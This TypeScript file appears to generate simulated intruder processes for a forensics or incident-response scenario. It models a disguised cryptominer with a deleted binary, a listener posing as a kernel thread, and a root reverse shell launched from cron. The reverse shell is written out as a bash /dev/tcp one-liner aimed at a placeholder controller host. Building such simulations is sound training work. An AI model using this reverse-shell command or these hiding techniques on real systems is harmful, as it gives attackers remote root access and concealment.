import type { Timeline } from '../timeline.js';
import { INTRUDER, MINER_COMMAND } from '../tree/scene.js';
import { BASE_ENVIRONMENT, type ProcessDraft } from './process.js';

function minerAndListener(times: Timeline): readonly ProcessDraft[] {
  return [
    {
      pid: 4242,
      command: MINER_COMMAND,
      comm: 'kworkerd',
      exe: '/var/tmp/.x/kworkerd',
      exeDeleted: true,
      cwd: '/var/tmp/.x',
      startedAt: times.miner,
      sockets: { 9: 41242 },
      residentKiB: 268_000,
      nice: 5,
      environment: { ...BASE_ENVIRONMENT, PWD: '/var/tmp/.x', HISTFILE: '/dev/null', SUDO_USER: 'deploy' },
    },
    {
      pid: 4377,
      command: ['[kworker/u4:3]'],
      comm: 'kworker/u4:3',
      exe: '/var/tmp/.x/.lsn',
      cwd: '/var/tmp/.x',
      startedAt: times.listener,
      sockets: { 3: 41377 },
    },
  ];
}

/** From cron's child down to the interactive shell, whose input and output are the socket. */
function reverseShell(times: Timeline): readonly ProcessDraft[] {
  const shell = `bash -i >& /dev/tcp/${INTRUDER.controller}/${INTRUDER.shellPort} 0>&1`;
  const rooted = { exe: '/usr/bin/bash', cwd: '/root', startedAt: times.reverseShell };
  const connected = { sockets: { 0: 41707, 1: 41707, 2: 41707 } };
  const login = { HOME: '/root', LOGNAME: 'root', SHELL: '/bin/sh', PWD: '/root', SHLVL: '2' };
  return [
    {
      pid: 4705,
      parent: 620,
      command: ['/usr/sbin/CRON', '-f'],
      comm: 'cron',
      exe: '/usr/sbin/cron',
      startedAt: new Date(times.reverseShell.getTime() - 1000),
    },
    { ...rooted, pid: 4706, parent: 4705, command: ['/bin/sh', '-c', `/bin/bash -c '${shell}'`], comm: 'sh' },
    { ...rooted, ...connected, pid: 4707, parent: 4706, command: ['/bin/bash', '-c', shell], comm: 'bash' },
    {
      ...rooted,
      ...connected,
      pid: 4708,
      parent: 4707,
      command: ['bash', '-i'],
      comm: 'bash',
      environment: { ...BASE_ENVIRONMENT, ...login },
    },
  ];
}

/** The miner, the listener that calls itself a kernel thread, and the reverse shell with the cron job it came from. */
export function intruderProcesses(times: Timeline): readonly ProcessDraft[] {
  return [...minerAndListener(times), ...reverseShell(times)];
}
